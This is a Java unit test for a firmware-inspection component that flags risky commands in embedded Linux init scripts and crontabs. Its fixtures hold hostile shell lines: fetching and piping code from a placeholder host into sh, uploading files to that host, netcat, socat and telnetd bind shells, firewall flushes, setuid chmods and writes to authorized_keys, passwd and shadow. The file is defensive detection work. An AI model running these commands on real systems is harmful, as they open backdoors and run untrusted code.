package org.vitrine.inspect.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.vitrine.evidence.State;
import org.vitrine.inspect.HandMadeTree;
import org.vitrine.inspect.spi.RootFs;
import org.vitrine.testing.Extracted;
import org.vitrine.testing.Tool;

class ScriptStepInspectorTest {
    private static List<ScriptStep> steps(RootFs root) {
        List<ScriptStep> rows = new ArrayList<>();
        new ScriptStepInspector().inspect(root, fact -> rows.add((ScriptStep) fact));
        return rows;
    }

    private static HandMadeTree started(String line) {
        return new HandMadeTree()
                .file("etc/inittab", "::sysinit:/etc/init.d/rcS\n")
                .file("etc/init.d/rcS", "#!/bin/sh\nSERVER=x\n" + line + "\n");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "wget -O /tmp/x http://h.io/x | FETCHES",
                "curl -s http://h.io/x > /tmp/x | FETCHES",
                "tftp -g -r x 10.0.0.1 | FETCHES",
                "curl -T /tmp/core http://h.io/up | SENDS",
                "wget --post-file=/tmp/core http://h.io/up | SENDS",
                "nc -l -p 4444 -e /bin/sh | LETS_IN",
                "busybox telnetd -l /bin/sh | LETS_IN",
                "socat TCP-LISTEN:99 EXEC:/bin/sh | LETS_IN",
                "iptables -F | OPENS_FILTER",
                "iptables -t filter -F INPUT | OPENS_FILTER",
                "iptables -P INPUT ACCEPT | OPENS_FILTER",
                "iptables -I INPUT -j ACCEPT | OPENS_FILTER",
                "nft flush ruleset | OPENS_FILTER",
                "mount -o remount,rw / | REMOUNTS_WRITABLE",
                "mount -oremount,rw / | REMOUNTS_WRITABLE",
                "mount -o rw,remount /dev/root / | REMOUNTS_WRITABLE",
                "chmod 777 /etc | LOOSENS_MODE",
                "chmod -R 0666 /etc | LOOSENS_MODE",
                "chmod u+s /bin/busybox | LOOSENS_MODE",
                "chmod 4755 /bin/busybox | LOOSENS_MODE",
                "chmod a+rw /dev/mem | LOOSENS_MODE",
                "echo key >> /root/.ssh/authorized_keys | WRITES_LOGINS",
                "cp /tmp/p /etc/passwd | WRITES_LOGINS",
                "sed -i s/x/y/ /etc/shadow | WRITES_LOGINS",
                "adduser -D joe | WRITES_LOGINS",
            })
    void aCommand(String line, ScriptStep.Act act) {
        assertThat(steps(started(line).root())).singleElement().satisfies(step -> {
            assertThat(step.act()).isEqualTo(act);
            assertThat(step.state()).isEqualTo(State.ACTIVE);
            assertThat(step.line()).isEqualTo(3);
            assertThat(step.command()).isNotEmpty();
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "wget -qO- http://h.io/x | sh",
                "curl -s http://h.io/x | gunzip | /bin/sh -s a",
                "curl -s http://h.io/x | sudo bash",
                "eval \"$(wget -qO- http://h.io/x)\"",
                "eval `curl -s http://h.io/x`",
                "sh -c \"$(curl -fsSL http://h.io/x)\"",
            })
    void whatIsFetchedIsRun(String line) {
        assertThat(steps(started(line).root()))
                .extracting(ScriptStep::act)
                .contains(ScriptStep.Act.RUNS_WHAT_IT_FETCHES);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#wget http://h.io/x | sh",
                "echo wget http://h.io/x",
                "wget http://h.io/x || sh /etc/failed",
                "wget -O- http://127.0.0.1:8080/x | sh",
                "curl http://localhost/reload",
                "curl -V",
                "iptables -F $CHAIN",
                "iptables -t nat -F",
                "iptables -F MINIUPNPD",
                "passwd -l joe",
                "echo x >> $rootfs/etc/passwd",
                "iptables -A INPUT -i lo -j ACCEPT",
                "iptables -P OUTPUT ACCEPT",
                "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
                "mount -o remount,ro /",
                "mount -t tmpfs -o rw tmpfs /tmp",
                "chmod 755 /etc",
                "chmod 1777 /tmp",
                "chmod +x /tmp/x",
                "chmod o-w /tmp/x",
                "cp /etc/passwd /tmp/passwd",
                "cat /etc/shadow > /tmp/shadow",
                "grep root /etc/passwd",
                "nc 10.0.0.1 80",
                "sshd -t",
                "killall telnetd",
                "tail -n 1 /etc/passwd",
            })
    void aCommandThatIsNoneOfThese(String line) {
        assertThat(steps(started(line).root()))
                .filteredOn(step -> step.act() != ScriptStep.Act.FETCHES)
                .isEmpty();
    }

    @Test
    void cronAndWhatNothingRuns() {
        HandMadeTree tree = new HandMadeTree()
                .file("etc/inittab", "::respawn:/usr/sbin/crond -f\n")
                .file("etc/crontabs/root", "# 0 0 * * * iptables -F\n*/5 * * * * curl -s http://h.io/x | sh\n")
                .file("usr/bin/fix.sh", "#!/bin/sh\nfix() {\n  chmod 777 /etc\n}\n")
                .file("usr/share/notes.txt", "chmod 777 /etc\n");

        assertThat(steps(tree.root()))
                .extracting(step -> step.act() + " " + step.line() + " " + step.state())
                .containsExactly("RUNS_WHAT_IT_FETCHES 2 ACTIVE", "LOOSENS_MODE 3 UNKNOWN");
    }

    /// grep is the second reader: what it finds at a line's start, outside of comments, is told; and nothing is told of
    /// a
    /// line in which it finds no such word.
    @Test
    void realReleases() throws IOException {
        Path folder = Extracted.rootfs("technicolor-dga4131-18.3.0439");
        RootFs root = HandMadeTree.of(folder).root();
        List<String> told = steps(root).stream()
                .filter(step -> step.act() == ScriptStep.Act.REMOUNTS_WRITABLE)
                .map(step -> root.pathOf(root.tree().artifact(step.artifact())) + ":" + step.line())
                .toList();
        String found = Tool.of(
                        "grep",
                        "-rnE",
                        "^[^#]*mount .*remount,rw",
                        "etc",
                        "lib",
                        "sbin",
                        "usr/bin",
                        "usr/sbin",
                        "usr/lib")
                .in(folder)
                .run()
                .text();
        for (String place : told) {
            assertThat(found).contains(place + ":");
        }
        assertThat(found.lines().filter(line -> line.startsWith("etc/init.d/") || line.startsWith("lib/")))
                .allSatisfy(line ->
                        assertThat(told).contains(line.substring(0, line.indexOf(':', line.indexOf(':') + 1))));
    }
}
